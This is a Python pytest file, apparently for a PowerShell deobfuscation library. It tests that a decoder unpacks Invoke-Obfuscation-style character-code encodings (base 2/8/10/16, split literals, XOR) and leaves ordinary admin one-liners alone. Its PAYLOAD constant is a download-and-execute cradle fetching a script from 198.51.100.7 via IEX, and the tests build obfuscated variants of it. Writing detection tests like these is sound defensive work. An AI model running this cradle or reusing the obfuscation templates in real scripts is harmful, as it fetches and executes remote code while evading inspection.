"""Invoke-Obfuscation's ENCODING: a command written as codes in base 2, 8, 10 or 16.

Each case encodes a payload of our own the way the tool does: the codes in a literal cut by
random delimiters and split apart, or in a list, then turned into characters by
``[char][int]$_`` or ``[Convert]::ToInt16($_, base)``, with or without ``-bxor``. Traps: the
same operators as administrators use them (splitting dates, addresses, CSV headers).
"""

from __future__ import annotations

import random
import time

import pytest

from asisdk.decode import unpack

from .builders import layers

PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/u.ps1')"
DELIMITERS = "qKxz%!<>}~_"
HEX_DELIMITERS = "PGVzq!_~{-"


def written(codes: list[str], delimiters: str, seed: int) -> str:
    rng = random.Random(seed)
    return "".join(code + rng.choice(delimiters) for code in codes[:-1]) + codes[-1]


def digits(base: int) -> list[str]:
    spell = {2: "b", 8: "o", 10: "d", 16: "x"}[base]
    return [format(ord(char), spell) for char in PAYLOAD]


def split_ops(delimiters: str, style: str) -> str:
    if style == "operator":
        return "".join(f"-sPlIt '{d}' " for d in delimiters)
    return f".SpLIt('{delimiters}')"


@pytest.mark.parametrize("style", ["operator", "method"])
@pytest.mark.parametrize("base", [2, 8, 16])
def test_split_literal_in_a_base(base: int, style: str) -> None:
    pool = HEX_DELIMITERS if base == 16 else DELIMITERS
    body = written(digits(base), pool, base)
    line = (
        f"IEX ( -jOIn ('{body}'{split_ops(pool, style)}|FOReaCh "
        f"{{([cOnVERT]::toINT16( ( [sTrinG]$_ ) ,{base}) -as[CHaR])}}) )"
    )
    assert ("ps_charcode", PAYLOAD) in layers(line)


def test_split_literal_in_decimal_with_random_case_delimiters() -> None:
    # ``-split 'k'`` ignores case: a literal cut by ``K`` comes apart too.
    body = written(digits(10), "kKqQ%", 7)
    line = f"('{body}'-SPLiT'k' -split 'Q' -spLIt'%'|%{{ ( [ChAR] [iNt]$_)}})-joiN''| iex"
    assert ("ps_charcode", PAYLOAD) in layers(line)


def test_csplit_keeps_case() -> None:
    body = written(digits(10), "k", 3)
    line = f"('{body}'-cSPLiT'K'|%{{[char][int]$_}})-join''"
    assert layers(line) == []


def test_split_literal_xored_with_a_quoted_key() -> None:
    body = written([str(ord(char) ^ 0x1B) for char in PAYLOAD], DELIMITERS, 4)
    line = (
        f"[sTRIng]::JoIn('', ('{body}'{split_ops(DELIMITERS, 'operator')}"
        "|FOReacH-oBJecT { [CHaR] ($_-bXor '0x1b' ) }) ) | iEX"
    )
    assert ("ps_charcode", PAYLOAD) in layers(line)


@pytest.mark.parametrize("base", [2, 8])
def test_code_list_with_its_base(base: int) -> None:
    codes = " , ".join(digits(base))
    line = (
        f"[STRinG]::JOiN('',( ({codes})|foReacH{{([cHAR] ( [convERt]::ToINT16(( "
        f"[striNG]$_) ,{base}))) }} )) | iEx"
    )
    assert ("ps_charcode", PAYLOAD) in layers(line)


def test_hex_list_with_quoted_items() -> None:
    # Codes with a letter are quoted, the others not: ``(49, '6e', 76)``.
    codes = ",".join(f"'{c}'" if not c.isdigit() else c for c in digits(16))
    line = (
        f"\"$( sEt-ITeM 'VarIABle:ofs' '') \" +[STrinG](({codes}) |FOreACh-ObjEcT "
        "{([CHAr]([conVERT]::toint16(([STRIng]$_ ),16) ))} )"
        "+\" $( SeT-VAriAblE 'OfS' ' ' ) \" | iEx"
    )
    assert ("ps_charcode", PAYLOAD) in layers(line)


# -- traps -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        # Dates, versions and addresses split into numbers, not characters.
        "$y, $m, $d = '2024-01-15'.Split('-') | ForEach-Object { [int]$_ }",
        "$parts = '10.0.19041.1'.Split('.'); $label = [char]65 + 'uild ' + $parts[2]",
        "'192.168.1.20'.Split('.') | % { [Convert]::ToString([int]$_, 2).PadLeft(8, '0') }",
        # A CSV header split, then a newline written as [char]10.
        "$cols = 'name,dept,title' -split ','; $out = $cols -join [char]10",
        # A MAC address parsed byte by byte.
        "'00-1A-2B-3C-4D-5E'.Split('-') | % { [Convert]::ToInt16($_, 16) }",
        "$ports = (80, 443, 8080, 8443) | % { [Convert]::ToInt16($_, 16) }",
        "$mask = '255 255 255 0' -split ' ' | % { [char][int]$_ }",
    ],
)
def test_admin_scripts_that_split_numbers_stay_alone(line: str) -> None:
    assert layers(line) == []


# -- bounded on hostile input -------------------------------------------------------------------

MB = 1_000_000
ADVERSARIAL = {
    "split_chain": "'1'" + "-split 'a'" * (MB // 10) + "|%{[char]$_}",
    "splits_after_quotes": "'" * MB + "-split 'a'|%{[char]$_}",
    "many_short_splits": "'1a2'-split'a'|%{[char]$_}" * (MB // 26),
    "splits_without_literal": "x -split 'a' " * (MB // 13),
    "long_split_literal": "'" + "1q" * (MB // 2) + "'-split 'q'|%{[char][int]$_}",
    "unclosed_list": "(" + "1," * (MB // 2) + " ToInt16($_,8)",
    "many_lists": "(1,2,3,4)|%{[Convert]::ToInt16($_,8)}" * (MB // 40),
    "method_splits": "'a'.split('" * (MB // 11),
}


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_adversarial_megabyte_is_bounded(name: str) -> None:
    started = time.perf_counter()
    unpack(ADVERSARIAL[name])
    assert time.perf_counter() - started < 30
